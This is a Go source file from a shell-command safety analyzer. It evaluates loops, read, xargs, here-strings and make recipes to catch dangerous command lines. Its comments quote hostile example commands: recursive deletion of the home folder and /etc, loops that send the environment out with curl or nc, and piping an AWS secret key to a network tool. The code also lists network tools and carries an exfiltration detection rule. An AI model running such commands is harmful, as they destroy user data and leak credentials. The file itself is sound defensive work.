package shell

import (
	"strings"

	"github.com/added060/palisade/plugins/internal/lazyre"
	"mvdan.cc/sh/v3/syntax"
)

// Values that reach a command through the shell's own control flow (issue 26, "evaluate a
// command as a small program"): a for loop's items (`for d in ~ /etc; do rm -rf "$d"; done`),
// `read` from a here-string or a pipe (`read -r d <<< ~`, `ls -d ~ | while read d; do …`),
// `set --` (`set -- ~; rm -rf "$@"`), a here-string fed to xargs (`xargs rm -rf <<< ~`) and
// the default of a variable the line never set (`${RM:-rm} -rf ~`). Before, the loop's body
// was judged once with the variable standing for itself ("$d"), which names no path, so each
// of these lines had no finding.

// maxLoopItems bounds the items a loop's body is judged with; past it the result is
// Incomplete (the stage then asks) rather than judged on a part.
const maxLoopItems = 32

// forLoop judges a `for NAME in WORDS` loop's body once for each item (bash(1): the list is
// expanded and NAME set to each element in turn). It reports false, leaving the loop to the
// generic walk, when the items are not known: a loop over positional parameters outside a
// function, or items that are a command's output (`$(ls)`), which the walk judges with the
// variable standing for itself, as before.
func (a *analyzer) forLoop(fc *syntax.ForClause) bool {
	wi, ok := fc.Loop.(*syntax.WordIter)
	if !ok || wi.Name == nil {
		return false
	}
	var items []string
	switch {
	case wi.InPos.IsValid():
		items = a.fields(wi.Items)
	case a.params != nil:
		items = a.params // `for x; do`: the positional parameters
	}
	if len(items) > 0 && envOutput(strings.Join(items, " ")) {
		// `for l in $(env); do curl -d "$l" URL; done`: each word is part of the environment
		// (issue 26, det69)
		a.envLoop([]string{wi.Name.Value}, fc.Do)
		return true
	}
	return a.iterate([]string{wi.Name.Value}, items, fc.Do, false)
}

// envLoop judges a loop's body once with each of names holding what `$(env)` stands for: a
// loop over the environment's lines or words (readLoop, forLoop; det68, det69).
func (a *analyzer) envLoop(names []string, body []*syntax.Stmt) {
	if a.work++; a.work > maxWork {
		a.res.Incomplete = true
		return
	}
	for _, n := range names {
		a.vars[n] = "$(env)"
	}
	for _, st := range body {
		a.stmt(st)
	}
}

// iterate judges body once for each item with names assigned as read (split) or as a for loop
// (whole) assigns it; it reports false when there is nothing known to iterate over.
func (a *analyzer) iterate(names, items []string, body []*syntax.Stmt, split bool) bool {
	if len(items) == 0 || len(names) == 0 {
		return false
	}
	for _, it := range items {
		if strings.Contains(it, "$(") || strings.Contains(it, "`") {
			return false // a command's output: not known here
		}
	}
	if len(items) > maxLoopItems {
		items = items[:maxLoopItems]
		a.res.Incomplete = true
	}
	for _, it := range items {
		// Each pass is work: loops nested twelve deep over eight items each are 8^12 passes.
		if a.work++; a.work > maxWork {
			a.res.Incomplete = true
			return true
		}
		if split {
			a.readInto(names, it)
		} else {
			a.vars[names[0]] = it
		}
		for _, st := range body {
			a.stmt(st)
		}
	}
	return true
}

// readNames returns the variables `read` assigns (bash(1) read: options -a -d -i -n -N -p -t
// -u take a value), or nil when it reads into an array (-a) or REPLY alone.
func readNames(args []string) []string {
	var names []string
	for i := 0; i < len(args); i++ {
		x := args[i]
		if x == "--" {
			names = append(names, args[i+1:]...)
			break
		}
		if strings.HasPrefix(x, "-") && len(x) > 1 {
			for j := 1; j < len(x); j++ {
				if strings.IndexByte("adinNptu", x[j]) >= 0 {
					if x[j] == 'a' {
						return nil
					}
					if j == len(x)-1 {
						i++ // the value is the next word
					}
					break
				}
			}
			continue
		}
		names = append(names, x)
	}
	if len(names) == 0 {
		return []string{"REPLY"}
	}
	return names
}

// clusterValue returns the value of option opt in args whose options with a value are valued
// (bash's builtins: a cluster `-ra NAME`, `-aNAME`), or "".
func clusterValue(args []string, valued string, opt byte) string {
	for i := 0; i < len(args); i++ {
		x := args[i]
		if x == "--" || !strings.HasPrefix(x, "-") || len(x) < 2 {
			return ""
		}
		for j := 1; j < len(x); j++ {
			if strings.IndexByte(valued, x[j]) < 0 {
				continue
			}
			v := x[j+1:]
			if v == "" && i+1 < len(args) {
				i++
				v = args[i]
			}
			if x[j] == opt {
				return v
			}
			break
		}
	}
	return ""
}

// mapfileName returns the array mapfile (readarray) fills: the first operand, MAPFILE
// without one (bash(1) mapfile: -d -n -O -s -u -C -c take a value).
func mapfileName(args []string) string {
	for i := 0; i < len(args); i++ {
		x := args[i]
		if x == "--" {
			if i+1 < len(args) {
				return args[i+1]
			}
			break
		}
		if !strings.HasPrefix(x, "-") || len(x) < 2 {
			return x
		}
		for j := 1; j < len(x); j++ {
			if strings.IndexByte("dnOsuCc", x[j]) >= 0 {
				if j == len(x)-1 {
					i++ // the value is the next word
				}
				break
			}
		}
	}
	return "MAPFILE"
}

// setArray assigns elems to the array name, as `name=(elems)` does; $name is its first.
func (a *analyzer) setArray(name string, elems []string) {
	if len(elems) > maxWork {
		elems = elems[:maxWork] // `a=("${a[@]}" "${a[@]}")` doubles an array per statement
		a.res.Incomplete = true
	}
	if a.arrays == nil {
		a.arrays = map[string][]string{}
	}
	a.arrays[name] = elems
	a.vars[name] = first(elems)
}

// readInto assigns one line to names as read does: split at blanks, the last name taking the
// rest of the line.
func (a *analyzer) readInto(names []string, line string) {
	f := strings.Fields(line)
	for i, n := range names {
		switch {
		case i >= len(f):
			a.vars[n] = ""
		case i == len(names)-1:
			a.vars[n] = strings.Join(f[i:], " ")
		default:
			a.vars[n] = f[i]
		}
	}
}

// hereText returns the text a here-string or a here-document gives a command's standard
// input, and whether there is one.
func (a *analyzer) hereText(redirs []*syntax.Redirect) (string, bool) {
	for _, r := range redirs {
		if r.N != nil && r.N.Value != "0" {
			continue
		}
		switch r.Op {
		case syntax.WordHdoc:
			if f := a.fields([]*syntax.Word{r.Word}); len(f) > 0 {
				return strings.Join(f, " "), true
			}
		case syntax.Hdoc, syntax.DashHdoc:
			if r.Hdoc != nil {
				return a.literal(r.Hdoc), true
			}
		case syntax.RdrIn:
			// `< <(echo ~)`: the paths the process substitution lists (procListed); `<
			// <(env)`: what it prints, as a command substitution stands for it (det67).
			a.procFeed, a.procText = nil, ""
			if f := a.fields([]*syntax.Word{r.Word}); len(f) == 1 && f[0] == procFile {
				switch {
				case a.procFeed != nil:
					return strings.Join(a.procFeed, "\n"), true
				case a.procText != "" && a.procText != "$(...)":
					return a.procText, true
				}
			}
		}
	}
	return "", false
}

// procFile is the file a process substitution `<(CMD)` or `>(CMD)` stands for (bash(1)
// Process Substitution: a /dev/fd name, or a named pipe).
const procFile = "/dev/fd/63"

// procListed records the paths the command of a process substitution read as a file lists,
// as a pipeline's stage before xargs or read does (lists: echo, printf, ls, find): `xargs -a
// <(echo ~) rm -rf`, `while read d; do rm -rf "$d"; done < <(ls -d ~)` (issue 26, det65).
func (a *analyzer) procListed(stmts []*syntax.Stmt) {
	a.procFeed, a.procRec = nil, false
	if len(stmts) != 1 {
		return
	}
	ce, ok := stmts[0].Cmd.(*syntax.CallExpr)
	if !ok {
		return
	}
	argv := a.fields(ce.Args)
	if len(argv) == 0 {
		return
	}
	a.procFeed, a.procRec = a.lists(base(argv[0]), argv[1:])
}

// argFile returns the paths in the file xargs reads its arguments from (`-a FILE`,
// `--arg-file=FILE`, xargs(1)): a process substitution's listing (procListed) or what echo or
// printf wrote into the file earlier on the line.
func (a *analyzer) argFile(args []string) (feed []string, rec, ok bool) {
	file := ""
	for i := 0; i < len(args) && strings.HasPrefix(args[i], "-"); i++ {
		switch x := args[i]; {
		case (x == "-a" || x == "--arg-file") && i+1 < len(args):
			file = args[i+1]
			i++
		case strings.HasPrefix(x, "--arg-file="):
			file = strings.TrimPrefix(x, "--arg-file=")
		case strings.HasPrefix(x, "-a") && len(x) > 2:
			file = x[2:]
		case x == "-I" || x == "-n" || x == "-P" || x == "-L" || x == "-d" || x == "-E" || x == "-s":
			i++
		}
	}
	switch {
	case file == "":
		return nil, false, false
	case file == procFile && len(a.procFeed) > 0:
		return a.procFeed, a.procRec, true
	}
	if t, found := a.written[a.fileKey(file)]; found {
		if f := strings.Fields(t); len(f) > 0 {
			return f, false, true
		}
	}
	return nil, false, false
}

// lines splits text into its non-empty lines.
func lines(text string) []string {
	var out []string
	for _, l := range strings.Split(text, "\n") {
		if strings.TrimSpace(l) != "" {
			out = append(out, l)
		}
	}
	return out
}

// fedInput judges what a command's here-string or here-document gives it (given): `xargs rm
// -rf <<< ~`, `read -r d <<< ~`.
func (a *analyzer) fedInput(argv []string, redirs []*syntax.Redirect) {
	argv = unwrap(argv)
	if len(argv) == 0 {
		return
	}
	if text, ok := a.hereText(redirs); ok {
		a.given(argv, text)
	}
}

// given judges a command given text on its standard input (a here-string, a here-document, or
// what the stage before it in a pipe prints): read assigns the first line to its variables;
// xargs runs its command on the words; at and batch run the text as commands; make with
// `-f -` runs the makefile's recipes.
func (a *analyzer) given(argv []string, text string) {
	switch base(argv[0]) {
	case "read":
		if names := readNames(argv[1:]); names != nil {
			if ls := lines(text); len(ls) > 0 {
				a.readInto(names, ls[0])
			}
		} else if name := clusterValue(argv[1:], "adinNptu", 'a'); name != "" {
			if ls := lines(text); len(ls) > 0 {
				a.setArray(name, strings.Fields(ls[0])) // `read -ra d <<< "$HOME /"`
			}
		}
	case "mapfile", "readarray":
		// `mapfile -t f < <(find ~ -name '*.pem')`: one element per line (issue 26, det67)
		a.setArray(mapfileName(argv[1:]), lines(text))
	case "xargs":
		if f := strings.Fields(text); len(f) > 0 {
			a.xargs(argv[1:], f, false)
		}
	case "at", "batch":
		a.line(text, a.depth+1) // at(1) runs the commands it reads with sh
	case "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "ssh", "openssl":
		if envSubst.MatchString(text) {
			// `nc H P <<< "$(env)"`, `nc H P <<< "$l"` in a loop over env (det69)
			a.add("exfil/env_to_network", "sends the environment over the network", strings.Join(argv, " "), 0.95)
		} else if v := secretName.FindString(text); v != "" {
			// `nc H P <<< "$AWS_SECRET_ACCESS_KEY"`: as the echo piped into it (det70)
			a.secretPiped(strings.Trim(v, "${"), base(argv[0]), argv[1:], strings.Join(argv, " "), "-")
		}
	case "sqlite3":
		a.sqliteDot(text) // carriers.go
	case "make", "gmake":
		if makeReadsStdin(argv[1:]) {
			for _, r := range makeRecipes(text) {
				a.line(r, a.depth+1)
			}
		}
	}
}

// readLoop judges `while read NAME…; do BODY; done` once for each line its input holds: the
// here-string or here-document on the loop (redirs), or the lines of the stage before it in a
// pipe (fed). It reports whether it judged the body.
func (a *analyzer) readLoop(s *syntax.Stmt, fed []string) bool {
	wc, ok := s.Cmd.(*syntax.WhileClause)
	if !ok || wc.Until || len(wc.Cond) != 1 {
		return false
	}
	ce, ok := wc.Cond[0].Cmd.(*syntax.CallExpr)
	if !ok || len(ce.Args) == 0 || ce.Args[0].Lit() != "read" {
		return false
	}
	names := readNames(a.fields(ce.Args[1:]))
	if names == nil {
		return false
	}
	items := fed
	if items == nil {
		text, ok := a.hereText(s.Redirs)
		if !ok {
			return false
		}
		items = lines(text)
	}
	if len(items) == 1 && envOutput(items[0]) {
		// `while read l; do curl -d "$l" URL; done < <(env)`, `env | while read l; …`: each
		// line the loop reads is part of the environment, so every variable read holds what
		// `$(env)` stands for, judged once (issue 26, det68).
		a.envLoop(names, wc.Do)
		return true
	}
	return a.iterate(names, items, wc.Do, true)
}

// envOutput reports whether t stands for the output of a command that prints the environment
// (`$(env)`, `$(printenv)`, `$(export -p)`: envSubst, the whole of t).
func envOutput(t string) bool {
	return strings.HasPrefix(t, "$(") && envSubst.FindString(t) == t
}

// envStage reports whether a pipeline stage (argv; nil for a loop, a block or a subshell)
// prints the environment or part of it: a command that dumps it (envOutput), or a filter
// (envFilter) given what the stage before printed when that was the environment (prevEnv).
func envStage(argv []string, prevEnv bool) bool {
	if len(argv) == 0 {
		return false
	}
	if envOutput("$(" + strings.Join(argv, " ") + ")") {
		return true
	}
	return prevEnv && envFilter[base(argv[0])]
}

// envFilter are the commands that print some of the lines or fields they read and nothing
// else: `env | grep AWS`, `printenv | cut -d= -f2`, `env | sort`.
var envFilter = set("grep", "egrep", "fgrep", "rg", "sort", "uniq", "cut", "sed", "awk", "gawk", "mawk", "head", "tail", "tr", "cat", "tac", "column")

// declDump reports whether a declaration builtin prints the variables instead of setting them:
// `export`, `export -p`, `declare -x`, `declare -p`, `typeset` alone (bash(1) SHELL BUILTIN
// COMMANDS).
func declDump(c *syntax.DeclClause) bool {
	if c.Variant == nil {
		return false
	}
	switch c.Variant.Value {
	case "export", "declare", "typeset":
	default:
		return false
	}
	for _, as := range c.Args {
		if !as.Naked || as.Name != nil || as.Value == nil {
			return false
		}
		switch as.Value.Lit() {
		case "-p", "-x", "-px", "-xp":
		default:
			return false
		}
	}
	return true
}

// envPipe reports whether a pipeline in a command substitution prints the environment or part
// of it (envStage through every stage): `$(env | grep KEY)`.
func (a *analyzer) envPipe(stages []*syntax.Stmt) bool {
	env := false
	for _, st := range stages {
		ce, ok := st.Cmd.(*syntax.CallExpr)
		if !ok {
			return false
		}
		if env = envStage(unwrapRoot(a.fields(ce.Args)), env); !env {
			return false
		}
	}
	return env
}

// secretPipe reports whether a pipeline prints a secret file's content: its first stage reads
// one (secretRead) and every later stage passes it on (secretFilter).
func (a *analyzer) secretPipe(stages []*syntax.Stmt) bool {
	for i, st := range stages {
		ce, ok := st.Cmd.(*syntax.CallExpr)
		if !ok {
			return false
		}
		argv := unwrapRoot(a.fields(ce.Args))
		if i == 0 && !secretRead(argv) || i > 0 && (len(argv) == 0 || !secretFilter[base(argv[0])]) {
			return false
		}
	}
	return len(stages) > 1
}

// setParams judges `set -- WORDS` (and `set WORDS` whose first word is no option): the
// positional parameters become WORDS for the rest of the line (bash(1) set).
func (a *analyzer) setParams(args []string) {
	switch {
	case len(args) > 0 && args[0] == "--":
		a.params = append([]string{}, args[1:]...)
	case len(args) > 0 && !strings.HasPrefix(args[0], "-") && !strings.HasPrefix(args[0], "+"):
		a.params = append([]string{}, args...)
	}
}

// alwaysSet are the variables a shell has whatever the line does: an unknown one of these
// stands for itself even where a default is given (`${HOME:-/tmp}` is the home folder).
var alwaysSet = set("HOME", "PWD", "OLDPWD", "USER", "LOGNAME", "SHELL", "PATH", "UID", "EUID", "HOSTNAME", "IFS")

// unsetDefault reports whether ws use the default of a variable the line never set
// (`${RM:-rm}`, `${X-rm}`): at run time it may be unset, so the line is also judged with the
// default in its place (fieldsWithDefaults).
func (a *analyzer) unsetDefault(ws []*syntax.Word) bool {
	found := false
	for _, w := range ws {
		syntax.Walk(w, func(n syntax.Node) bool {
			pe, ok := n.(*syntax.ParamExp)
			if !ok || found {
				return !found
			}
			if pe.Exp != nil && pe.Param != nil && (pe.Exp.Op == syntax.DefaultUnset || pe.Exp.Op == syntax.DefaultUnsetOrNull) {
				if _, known := a.vars[pe.Param.Value]; !known && !alwaysSet[pe.Param.Value] {
					found = true
				}
			}
			return !found
		})
	}
	return found
}

// fieldsWithDefaults expands ws with every variable the line never set (but alwaysSet) unset,
// so their defaults stand in.
func (a *analyzer) fieldsWithDefaults(ws []*syntax.Word) []string {
	a.defaults = true
	defer func() { a.defaults = false }()
	return a.fields(ws)
}

// makeReadsStdin reports whether make's arguments have it read its makefile from standard
// input (`make -f -`, `-f /dev/stdin`, `--file=-`).
func makeReadsStdin(args []string) bool {
	for i, x := range args {
		switch {
		case (x == "-f" || x == "--file" || x == "--makefile") && i+1 < len(args):
			if v := args[i+1]; v == "-" || v == "/dev/stdin" {
				return true
			}
		case x == "-f-" || x == "-f/dev/stdin" || x == "--file=-" || x == "--file=/dev/stdin" || x == "--makefile=-":
			return true
		}
	}
	return false
}

// makeRecipes returns the shell lines of a makefile's recipes (GNU make manual, "Recipe
// Syntax"): lines that start with a tab, and what follows `;` on a rule's line (`all: ; cmd`),
// with the @, - and + prefixes dropped.
func makeRecipes(text string) []string {
	var out []string
	for _, l := range strings.Split(text, "\n") {
		var r string
		switch {
		case strings.HasPrefix(l, "\t"):
			r = l
		default:
			if t, rest, ok := strings.Cut(l, ":"); ok && !strings.ContainsAny(t, "=\t") {
				if _, after, ok := strings.Cut(rest, ";"); ok {
					r = after
				}
			}
		}
		if r = strings.TrimLeft(strings.TrimSpace(r), "@-+"); r != "" {
			out = append(out, r)
		}
	}
	return out
}

// transformsText reports whether a pipeline in a command substitution transforms text the line
// gives (echo or printf first) with a decoder or tr, sed or awk: `$(echo … | tr a-z n-za-m)`.
func (a *analyzer) transformsText(stages []*syntax.Stmt) bool {
	if len(stages) < 2 {
		return false
	}
	for i, st := range stages {
		ce, ok := st.Cmd.(*syntax.CallExpr)
		if !ok {
			return false
		}
		argv := a.fields(ce.Args)
		if len(argv) == 0 {
			return false
		}
		n := base(argv[0])
		if i == 0 {
			if n != "echo" && n != "printf" {
				return false
			}
			continue
		}
		if decoder(n, argv[1:]) || n == "tr" || n == "sed" || n == "awk" {
			return true
		}
	}
	return false
}

// printCall matches a call that prints its arguments in the interpreters code() reads: print
// and printf (Python, Perl, awk, PHP), console.log and process.stdout.write (Node), puts and
// print (Ruby), say (Perl), echo (PHP).
var printCall = lazyre.New(`(?:\bprint|\bprintf|\bconsole\.log|\bprocess\.stdout\.write|\bputs|\bsay|\becho)\s*\(?`)

// printedByCode returns the text an interpreter one-liner prints when its print calls are
// given string literals only (`python3 -c 'print("rm -rf ~")'`), one line each.
func printedByCode(lang string, args []string) (string, bool) {
	code := ""
	for i := range args {
		if c := inlineCodeAt(lang, args, i, false); c != "" {
			code = c
			break
		}
	}
	if lang == "awk" && code == "" {
		for _, x := range args {
			if !strings.HasPrefix(x, "-") {
				code = x
				break
			}
		}
	}
	if code == "" || !printCall.MatchString(code) {
		return "", false
	}
	var out []string
	for _, loc := range printCall.FindAllStringIndex(code, 16) {
		rest := code[loc[1]:]
		if loc[1] > 0 && code[loc[1]-1] == '(' {
			rest = balanced(code[loc[1]-1:])
		} else if k := strings.IndexAny(rest, ";}\n"); k >= 0 {
			rest = rest[:k]
		}
		if l := literals(rest); len(l) > 0 {
			out = append(out, strings.Join(l, ""))
		}
	}
	if len(out) == 0 {
		return "", false
	}
	return strings.Join(out, "\n"), true
}
